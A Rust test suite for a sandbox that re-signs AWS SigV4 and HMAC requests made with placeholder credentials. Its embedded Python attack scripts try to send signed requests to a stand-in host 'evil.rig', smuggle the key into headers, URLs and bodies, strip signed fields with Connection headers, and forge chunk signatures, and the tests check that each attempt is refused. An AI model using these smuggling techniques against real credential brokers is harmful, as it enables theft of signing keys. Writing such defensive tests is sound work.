//! F56 to F64 for what is signed: requests that a rule signs with a key that the sandbox does not hold, used to have
//! something else signed, or to get the key.
//!
//! Beside the usual criterion: what arrives is signed with the key, is what the client signed with its placeholder, and
//! is signed once; the key is nowhere.

use aws_lc_rs::hmac::{HMAC_SHA256, Key, sign};

use exeat::secret::sign::sha256;

use super::client::{assert_answer, assert_refusals, attack};
use crate::support::exeat::{Outcome, Run};
use crate::support::world::World;

const POLICY: &str = "
version: 1
allow:
  allowed.rig:
    - match: { path: { startsWith: /plain } }
    - match: { path: { startsWith: /hook } }
      sign:
        hmac: { key: KEY, over: \"${method} ${target}\\n${header.x-time}\\n${body}\", header: x-signature, prefix: v1= }
    - match: { path: { startsWith: /open } }
      sign: { aws: { accessKey: ID, secretKey: KEY, sessionToken: TOKEN, others: pass } }
    - sign: { aws: { accessKey: ID, secretKey: KEY, sessionToken: TOKEN, regions: [here], services: [s3, run] } }
  evil.rig: [{}]
secrets:
  ID: { file: FOLDER/id, to: [allowed.rig], shape: { prefix: AKIA, length: 20 } }
  KEY: { file: FOLDER/key, to: [allowed.rig] }
  TOKEN: { file: FOLDER/token, to: [allowed.rig] }
placeholders: { AWS_ACCESS_KEY_ID: ID, AWS_SECRET_ACCESS_KEY: KEY, AWS_SESSION_TOKEN: TOKEN }
";

/// Put together here, so that nothing that looks like a credential stands in this file.
fn texts() -> [(&'static str, String); 3] {
    [("id", format!("AKIA{}", "CANARY23".repeat(2))), ("key", "cAn4ry+/".repeat(5)), ("token", "t0kencAn4ry".repeat(9))]
}

/// What scripts here begin with: the placeholders, a signer of their own, and a request with what it is signed by.
const SIGNER: &str = "
import hashlib, hmac, urllib.parse
ID, KEY, TOKEN = (os.environ[name] for name in ('AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN'))
TIME, EMPTY = '20260102T030405Z', hashlib.sha256(b'').hexdigest()
def mac(key, text):
    return hmac.new(key, text.encode(), 'sha256')
def derived(key, region, service):
    key = ('AWS4' + key).encode()
    for text in (TIME[:8], region, service, 'aws4_request'):
        key = mac(key, text).digest()
    return key
def signature(method, path, fields, payload, key=None, region='here', service='s3'):
    path, _, query = path.partition('?')
    query = '&'.join(sorted(pair if '=' in pair else pair + '=' for pair in query.split('&') if pair))
    names = ';'.join(sorted(fields))
    lines = ''.join(f'{name}:{fields[name]}\\n' for name in sorted(fields))
    canonical = f'{method}\\n{path}\\n{query}\\n{lines}\\n{names}\\n{payload}'
    text = f'AWS4-HMAC-SHA256\\n{TIME}\\n{TIME[:8]}/{region}/{service}/aws4_request\\n'
    text += hashlib.sha256(canonical.encode()).hexdigest()
    return names, mac(derived(key or KEY, region, service), text).hexdigest()
# The head's fields for a request, signed; `told` is what they say of the payload.
def signed(method='GET', path='/', told=EMPTY, key=None, id=None, region='here', service='s3', host='allowed.rig',
        body=b'', **more):
    fields = {'host': host, 'x-amz-date': TIME} | ({'x-amz-content-sha256': told} if told else {})
    fields |= {name.replace('_', '-'): value for name, value in more.items()}
    payload = told or hashlib.sha256(body).hexdigest()
    names, code = signature(method, path, fields, payload, key, region, service)
    del fields['host']
    scope = f'{id or ID}/{TIME[:8]}/{region}/{service}/aws4_request'
    fields['authorization'] = f'AWS4-HMAC-SHA256 Credential={scope}, SignedHeaders={names}, Signature={code}'
    return fields
def presigned(path='/', key=None, **more):
    pairs = {'X-Amz-Algorithm': 'AWS4-HMAC-SHA256', 'X-Amz-Credential': f'{ID}/{TIME[:8]}/here/s3/aws4_request',
        'X-Amz-Date': TIME, 'X-Amz-Expires': '60', 'X-Amz-SignedHeaders': 'host'} | more
    query = '&'.join(f'{name}={urllib.parse.quote(value, safe=\"\")}' for name, value in pairs.items())
    _, code = signature('GET', f'{path}?{query}', {'host': 'allowed.rig'}, 'UNSIGNED-PAYLOAD', key)
    return f'{path}?{query}&X-Amz-Signature={code}'
def ask(what, fields=None, path='/', method='GET', body=b'', host='allowed.rig', address=None, extra='', port=443):
    extra += ''.join(f'{name}: {value}\\r\\n' for name, value in (fields or {}).items())
    if body and 'ransfer-' not in extra:
        extra += f'Content-Length: {len(body)}\\r\\n'
    tls(what, address or ALLOWED, port, host, request(host, path, method, extra) + body)
";

fn run(world: &World) -> Run<'_> {
    let run = texts().into_iter().fold(world.run(), |run, (name, text)| run.file(name, text));
    let policy = POLICY.replace("FOLDER", run.folder().to_str().expect("UTF-8"));
    run.policy(&policy)
}

/// Runs a script in a sandbox that holds placeholders; the key is nowhere that anybody here can see, nor at an origin.
fn held(world: &World, script: &str) -> Outcome {
    let outcome = attack(world, run(world), &format!("{SIGNER}{script}"));
    let [_, (_, key), _] = texts();
    for text in [&outcome.stdout, &outcome.stderr, &outcome.audit] {
        assert!(texts().iter().all(|(_, secret)| !text.contains(secret)), "{outcome:#?}");
    }
    assert!(!world.allowed.https.inner().contains(&key) && !world.evil.https.inner().contains("AKIA"));
    outcome
}

/// The same signer, with the key: what must arrive.
fn expected(world: &World, script: &str) -> Vec<String> {
    let [(_, id), (_, key), (_, token)] = texts();
    let program = format!(
        "import os\nos.environ.update(AWS_ACCESS_KEY_ID='{id}', AWS_SECRET_ACCESS_KEY='{key}', \
                           AWS_SESSION_TOKEN='{token}')\n{SIGNER}{script}"
    );
    world.command(&["/usr/bin/python3", "-c", &program]).lines().map(str::to_owned).collect()
}

/// Signs a body piece by piece.
const PIECES: &str = "
def pieces(seed, key, *texts, trailer=None):
    body, last = b'', seed
    def chained(what, *hashes):
        scope = f'{TIME[:8]}/here/s3/aws4_request'
        text = '\\n'.join([f'AWS4-HMAC-SHA256-{what}', TIME, scope, last, *hashes])
        return mac(derived(key, 'here', 's3'), text).hexdigest()
    for text in (*texts, b''):
        last = chained('PAYLOAD', EMPTY, hashlib.sha256(text).hexdigest())
        body += b'%x;chunk-signature=%s\\r\\n%s%s' % (len(text), last.encode(), text, b'\\r\\n' if text else b'')
    if trailer:
        last = chained('TRAILER', hashlib.sha256(trailer + b'\\n').hexdigest())
        body += trailer + b'\\r\\nx-amz-trailer-signature:' + last.encode() + b'\\r\\n'
    return body + b'\\r\\n'
def streamed(key, **more):
    fields = signed('PUT', '/o', key=key, **more)
    return fields, fields['authorization'][-64:]
CHUNKS = dict(told='STREAMING-AWS4-HMAC-SHA256-PAYLOAD', x_amz_decoded_content_length='70005')
TRAILED = dict(told='STREAMING-AWS4-HMAC-SHA256-PAYLOAD-TRAILER', x_amz_decoded_content_length='5')
T = (b'a' * 70000, b'b' * 5)
";

/// F61: a signature, a URL, a body in pieces, a body whose hash is signed: with the key upstream, byte for byte else.
#[test]
fn f61_what_is_signed_with_a_placeholder_arrives_signed_with_the_key() {
    World::each(|world| {
        let outcome = held(
            world,
            &format!(
                "{PIECES}
sent = dict(x_amz_security_token=TOKEN)
ask('get', signed(path='/a%20b?x=1&acl', **sent), '/a%20b?x=1&acl')
ask('url', path=presigned('/o', **{{'X-Amz-Security-Token': TOKEN}}))
fields, seed = streamed(KEY, **CHUNKS, **sent)
ask('pieces', fields, '/o', 'PUT', pieces(seed, KEY, *T))
fields, seed = streamed(KEY, **TRAILED, **sent)
ask('trailer', fields, '/o', 'PUT', pieces(seed, KEY, T[1], trailer=b'x-amz-checksum-crc32:AAAAAA=='))
ask('whole', signed('POST', told=None, service='run', body=b'body', **sent), '/', 'POST', b'body')
"
            ),
        );
        for what in ["get", "url", "pieces", "trailer", "whole"] {
            assert_answer(&outcome, what, &["HTTP/1.1 200"]);
        }
        let arrived = world.allowed.https.requests();
        let expected = expected(
            world,
            &format!(
                "{PIECES}
sent = dict(x_amz_security_token=TOKEN)
print(signed(path='/a%20b?x=1&acl', **sent)['authorization'])
print(presigned('/o', **{{'X-Amz-Security-Token': TOKEN}}))
for more, texts, trailer in (CHUNKS, T, None), (TRAILED, T[1:], b'x-amz-checksum-crc32:AAAAAA=='):
    fields, seed = streamed(KEY, **more, **sent)
    print(fields['authorization'])
    print(hashlib.sha256(pieces(seed, KEY, *texts, trailer=trailer)).hexdigest())
print(signed('POST', told=None, service='run', body=b'body', **sent)['authorization'])
"
            ),
        );
        let [(_, id), _, (_, token)] = texts();
        let body = |at: usize| sha256(&arrived[at].body);
        assert_eq!(arrived[0].header("authorization"), [&*expected[0]]);
        assert_eq!(arrived[0].header("x-amz-security-token"), [&*token]);
        assert_eq!(arrived[1].uri, expected[1]);
        for (at, of) in [(2, 2), (3, 4)] {
            assert_eq!(arrived[at].header("authorization"), [&*expected[of]]);
            assert_eq!(body(at), expected[of + 1]);
        }
        assert_eq!((arrived[4].header("authorization"), &*arrived[4].body), (vec![&*expected[6]], &b"body"[..]));
        assert!(expected[0].contains(&id) && expected[1].contains(&id));
        assert!(outcome.audit.contains("\"injected\":[\"authorization\",\"x-amz-security-token\"]"), "{outcome:#?}");
        assert!(outcome.audit.contains("\"injected\":[\"x-amz-signature\"]"), "{outcome:#?}");
    });
}

/// F61: a signature over something else, or by another key, or none: nothing is signed again.
#[test]
fn f61_what_the_placeholder_did_not_sign_is_not_signed() {
    World::each(|world| {
        let outcome = held(
            world,
            "
good = signed(path='/o')
def but(**more):
    return signed(path='/o') | {name.replace('_', '-'): value for name, value in more.items()}
ask('none', path='/o')
ask('bearer', {'authorization': 'Bearer x'}, '/o')
ask('path', good, '/p')
ask('query', good, '/o?acl')
ask('method', good, '/o', 'DELETE')
ask('host', signed(path='/o', host='other.rig'), '/o')
ask('payload', but(x_amz_content_sha256='UNSIGNED-PAYLOAD'), '/o')
ask('time', but(x_amz_date='20260102T030406Z'), '/o')
ask('wrong key', signed(path='/o', key='another'), '/o')
ask('id', signed(path='/o', id='AKIDOTHER'), '/o')
ask('region', signed(path='/o', region='there'), '/o')
ask('service', signed(path='/o', service='sts'), '/o')
ask('token', signed(path='/o', x_amz_security_token='mine'), '/o')
ask('twice', good, '/o', extra='Authorization: ' + good['authorization'] + '\\r\\n')
ask('both', good, presigned('/o'))
ask('url', path=presigned('/o', key='another'))
ask('url and more', path=presigned('/o') + '&acl=')
ask('url twice', path=presigned('/o') + '&X-Amz-Signature=x')
ask('url and token', {'x-amz-security-token': TOKEN}, presigned('/o'))
ask('missing', {name: value for name, value in signed(path='/o', x_gone='1').items() if name != 'x-gone'}, '/o')
ask('asymmetric', signed(path='/o', told='STREAMING-AWS4-ECDSA-P256-SHA256-PAYLOAD'), '/o')
ask('open, a key', {'authorization': 'Bearer ' + KEY}, '/open')
ask('open, a token', {'x-amz-security-token': TOKEN}, '/open')
ask('open, wrong', good, '/open')
ask('open, other, with a token', signed(path='/open', id='AKIDOTHER', x_amz_security_token=TOKEN), '/open')",
        );
        assert_refusals(&outcome, 25);
        world.allowed.assert_untouched();
        outcome.assert_denied("signature-refused", &[("name", "allowed.rig")]);
        let outcome = held(
            world,
            "
ask('open', path='/open')
ask('open, another', signed(path='/open', id='AKIDOTHER'), '/open')",
        );
        assert_answer(&outcome, "open", &["HTTP/1.1 200"]);
        assert_answer(&outcome, "open, another", &["HTTP/1.1 200"]);
        assert!(world.allowed.https.requests()[1].header("authorization")[0].contains("AKIDOTHER"));
        assert!(!outcome.audit.contains("\"injected\""), "{outcome:#?}");
    });
}

/// F61: a body whose pieces are not what was signed: it is cut short, and no origin takes it for a whole one.
#[test]
fn f61_a_piece_that_is_not_signed_ends_the_request() {
    World::each(|world| {
        let outcome = held(
            world,
            "
more = dict(told='STREAMING-AWS4-HMAC-SHA256-PAYLOAD', x_amz_decoded_content_length='5')
fields = signed('PUT', '/o', **more)
zero = b'0' * 64
mistaken = b'5;chunk-signature=%s\\r\\nhello\\r\\n0;chunk-signature=%s\\r\\n\\r\\n'
ask('mistaken', fields, '/o', 'PUT', mistaken % (zero, zero))
ask('unsigned', fields, '/o', 'PUT', b'5\\r\\nhello\\r\\n0\\r\\n\\r\\n')
ask('long', fields, '/o', 'PUT', b'200000;chunk-signature=%s\\r\\n' % zero + b'x' * 1000)
ask('hashed', signed('POST', '/o', told=None, service='run'), '/o', 'POST', b'another')
ask('too long', signed('POST', '/o', told=None, service='run'), '/o', 'POST', b'x' * 1100000)",
        );
        assert_refusals(&outcome, 5);
        for request in world.allowed.https.requests() {
            assert!(request.body.is_empty(), "{request:?}");
        }
        assert_eq!(outcome.audit.matches("signature-refused").count(), 5, "{outcome:#?}");
    });
}

/// F61 and F62: the placeholder of a key that signs, where a credential would be replaced, or for another origin.
#[test]
fn f61_a_key_that_signs_goes_out_nowhere() {
    World::each(|world| {
        let outcome = held(
            world,
            "
ask('bearer', {'authorization': 'Bearer ' + KEY})
ask('plain bearer', {'authorization': 'Bearer ' + KEY}, '/plain')
ask('plain key', {'x-api-key': ID}, '/plain')
ask('plain signed', signed(path='/plain'), '/plain')
ask('plain url', path=presigned('/plain'))
ask('beside', signed(path='/o', x_note=KEY), '/o')
ask('in the url', path=presigned('/o', note=TOKEN))
ask('evil', signed(path='/o', host='evil.rig'), '/o', host='evil.rig', address=EVIL)
ask('evil url', path=presigned('/o'), host='evil.rig', address=EVIL)",
        );
        assert_refusals(&outcome, 9);
        assert!(!world.allowed.https.inner().contains("AKIA"), "an id was sent");
        outcome.assert_denied("placeholder-misdirected", &[("name", "evil.rig")]);
        let script = "ask('body', signed('POST', '/o', told='UNSIGNED-PAYLOAD'), '/o', 'POST', b'x' + KEY.encode())";
        assert_refusals(&held(world, script), 1);
    });
}

/// F56: what `Connection` takes away is not signed, and neither is what is left.
#[test]
fn f56_connection_cannot_take_away_what_is_signed() {
    World::each(|world| {
        let outcome = held(
            world,
            "
for name in 'authorization', 'x-amz-date', 'x-amz-content-sha256', 'x-amz-security-token':
    ask(name, signed(path='/o', x_amz_security_token=TOKEN), '/o', extra=f'Connection: {name}\\r\\n')",
        );
        assert_refusals(&outcome, 4);
        world.allowed.assert_untouched();
    });
}

/// F57: a signature of a rule's own is there once, and is over what arrives, whatever the sandbox sent for it.
#[test]
fn f57_a_rules_own_signature_is_the_only_one() {
    World::each(|world| {
        let outcome = held(
            world,
            "
own = {'x-signature': 'v1=mine', 'X_Signature': 'v1=mine'}
ask('body', own | {'x-time': '17'}, '/hook?x=%20', 'POST', b'hello')
ask('none', {'x-time': '17'}, '/hook')
ask('pieces', {'x-time': '17'}, '/hook', 'POST', b'5\\r\\nhello\\r\\n0\\r\\nx-signature: v1=mine\\r\\n\\r\\n',
    extra='Transfer-Encoding: chunked\\r\\n')
ask('no time', own, '/hook')
ask('two times', {'x-time': '17', 'X-Time': '18'}, '/hook')
ask('too long', {'x-time': '17'}, '/hook', 'POST', b'x' * 1100000)",
        );
        let mac = |text: &str| {
            let [_, (_, key), _] = texts();
            let code = sign(&Key::new(HMAC_SHA256, key.as_bytes()), text.as_bytes());
            format!("v1={}", code.as_ref().iter().map(|byte| format!("{byte:02x}")).collect::<String>())
        };
        let arrived = world.allowed.https.requests();
        for (what, request, text) in [
            ("body", &arrived[0], "POST /hook?x=%20\n17\nhello"),
            ("none", &arrived[1], "GET /hook\n17\n"),
            ("pieces", &arrived[2], "POST /hook\n17\nhello"),
        ] {
            assert_answer(&outcome, what, &["HTTP/1.1 200"]);
            assert_eq!(request.header("x-signature"), [mac(text)], "{what}");
            assert!(request.header("x_signature").is_empty(), "{what}");
        }
        for what in ["no time", "two times", "too long"] {
            // Who still sends a body may lose the answer.
            assert_answer(&outcome, what, &["HTTP/1.1 403", "refused"]);
        }
        assert!(arrived.iter().skip(3).all(|request| request.body.is_empty()), "{arrived:?}");
    });
}

/// F63, F64: without the key, in clear, or to a port that it may not go to.
#[test]
fn f63_f64_without_its_key_or_in_clear_nothing_is_signed() {
    World::each(|world| {
        let script = format!(
            "{SIGNER}
fields = ''.join(f'{{name}}: {{value}}\\r\\n' for name, value in signed(path='/o').items())
tcp('clear', ALLOWED, 80, request('allowed.rig', '/o', 'GET', fields))"
        );
        let outcome = attack(world, run(world), &script);
        assert_refusals(&outcome, 1);
        outcome.assert_denied("plaintext-injection", &[("name", "allowed.rig")]);
        let run = run(world).file("id", "no key: it has blanks");
        let outcome = attack(world, run, &format!("{SIGNER}\nask('no key', signed(path='/o'), '/o')"));
        assert_answer(&outcome, "no key", &["HTTP/1.1 503"]);
        outcome.assert_denied("secret-unavailable", &[("name", "allowed.rig")]);
        world.allowed.assert_untouched();
    });
}
